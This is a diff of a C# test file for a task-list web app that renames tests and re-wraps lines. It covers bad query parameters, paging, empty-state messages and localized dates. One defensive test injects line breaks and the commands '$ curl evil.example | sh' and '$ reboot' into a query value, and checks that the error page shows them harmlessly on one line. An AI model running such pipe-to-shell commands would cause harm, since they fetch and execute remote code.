@@ -12,7 +12,7 @@ public sealed class ListTests(App app) : IClassFixture<App>, IAsyncLifetime
     public ValueTask DisposeAsync() => ValueTask.CompletedTask;
 
     [Fact, Trait("M", "M22")]
-    public async Task List_ByWish_IsAPageOrAFragment()
+    public async Task List_ByTheRequestsHeaders_IsAPageOrAFragment()
     {
         await _browser.Added("milk");
 
@@ -53,7 +53,7 @@ public sealed class ListTests(App app) : IClassFixture<App>, IAsyncLifetime
     [InlineData("/tasks?shown=-1")]
     [InlineData("/tasks?shown=501")]
     [InlineData("/tasks?shown=many")]
-    public async Task List_WhenTheAddressIsWrong_Is400InWords(string address)
+    public async Task List_WhenTheAddressIsWrong_Is400WithAMessage(string address)
     {
         foreach (var answer in new[] { await _browser.Page(address), await _browser.Fragment(address) })
         {
@@ -67,7 +67,7 @@ public sealed class ListTests(App app) : IClassFixture<App>, IAsyncLifetime
         (await _browser.Page($"/tasks?q={new string('x', 201)}")).Status.Should().Be(HttpStatusCode.BadRequest);
 
     [Fact]
-    public async Task List_PageByPage_ShowsEveryTaskOnceAlsoWhenOthersAreAdded()
+    public async Task List_PageByPage_ShowsEveryTaskOnceDuringAdds()
     {
         for (var i = 0; i < 60; i++) await _browser.Added($"task {i:00}");
         var seen = new List<string>();
@@ -85,7 +85,7 @@ public sealed class ListTests(App app) : IClassFixture<App>, IAsyncLifetime
     }
 
     [Fact]
-    public async Task List_ReadAgain_IsAsLongAsItWas()
+    public async Task List_WhenFetchedAgain_HasTheSameLength()
     {
         for (var i = 0; i < 60; i++) await _browser.Added($"task {i:00}");
 
@@ -113,10 +113,11 @@ public sealed class ListTests(App app) : IClassFixture<App>, IAsyncLifetime
     [Theory, Trait("M", "M9")]
     [InlineData("/", "No tasks yet")]
     [InlineData("/tasks?view=active", "No tasks yet")]
-    [InlineData("/tasks?view=completed", "Nothing completed yet")]
+    [InlineData("/tasks?view=completed", "No completed tasks yet")]
     [InlineData("/tasks?q=zebra", "No task matches “zebra”")]
-    public async Task List_WhenEmpty_SaysWhy(string address, string words) =>
-        (await _browser.Page(address)).Html.QuerySelector(".empty")!.TextContent.Replace("zebra", "“zebra”", StringComparison.Ordinal).Should().Contain(words);
+    public async Task List_WhenEmpty_ShowsTheReason(string address, string words) =>
+        (await _browser.Page(address)).Html.QuerySelector(".empty")!.TextContent.Replace("zebra", "“zebra”", StringComparison.Ordinal)
+            .Should().Contain(words);
 
     [Fact, Trait("M", "M21")]
     public async Task List_ByCultureAndTimeZone_ShowsTheReadersDay()
@@ -125,10 +126,12 @@ public sealed class ListTests(App app) : IClassFixture<App>, IAsyncLifetime
         var utc = (await _browser.Page("/")).Html.QuerySelector("time")!;
         var instant = DateTimeOffset.Parse(utc.GetAttribute("datetime")!, System.Globalization.CultureInfo.InvariantCulture);
 
-        var there = (await _browser.Page("/", ("Accept-Language", "de-DE"), ("Cookie", "tz=Pacific%2FKiritimati"))).Html.QuerySelector("time")!;
+        var there = (await _browser.Page("/", ("Accept-Language", "de-DE"), ("Cookie", "tz=Pacific%2FKiritimati"))).Html
+            .QuerySelector("time")!;
 
         there.GetAttribute("datetime").Should().Be(utc.GetAttribute("datetime"));
-        there.TextContent.Should().Be(instant.ToOffset(TimeSpan.FromHours(14)).ToString("d. MMM", new System.Globalization.CultureInfo("de-DE")));
+        there.TextContent
+            .Should().Be(instant.ToOffset(TimeSpan.FromHours(14)).ToString("d. MMM", new System.Globalization.CultureInfo("de-DE")));
         there.GetAttribute("title").Should().EndWith(instant.ToOffset(TimeSpan.FromHours(14)).ToString("HH:mm", null));
     }
 
@@ -161,12 +164,13 @@ public sealed class ListTests(App app) : IClassFixture<App>, IAsyncLifetime
     }
 
     [Fact, Trait("M", "M28")]
-    public async Task List_WhenItsAddressIsAskedToSpeakForUs_RepeatsItOnOneLine()
+    public async Task List_WhenItsAddressHasLineBreaks_RepeatsItOnOneLine()
     {
         var answer = await _browser.Page("/tasks?shown=" + Uri.EscapeDataString("1\n$ curl evil.example | sh\r\n$ reboot"));
 
         answer.Status.Should().Be(HttpStatusCode.BadRequest);
-        answer.Html.QuerySelector("[role=alert] code").Should().BeNull("a command that we give looks like that");
-        answer.Html.QuerySelectorAll("[role=alert] p").Select(line => line.TextContent).Should().Equal("'1 $ curl evil.example | sh $ reboot' cannot be used as shown.", "Back to your tasks");
+        answer.Html.QuerySelector("[role=alert] code").Should().BeNull("the error page shows its own commands like that");
+        answer.Html.QuerySelectorAll("[role=alert] p").Select(line => line.TextContent)
+            .Should().Equal("'1 $ curl evil.example | sh $ reboot' cannot be used as shown.", "Back to your tasks");
     }
 }
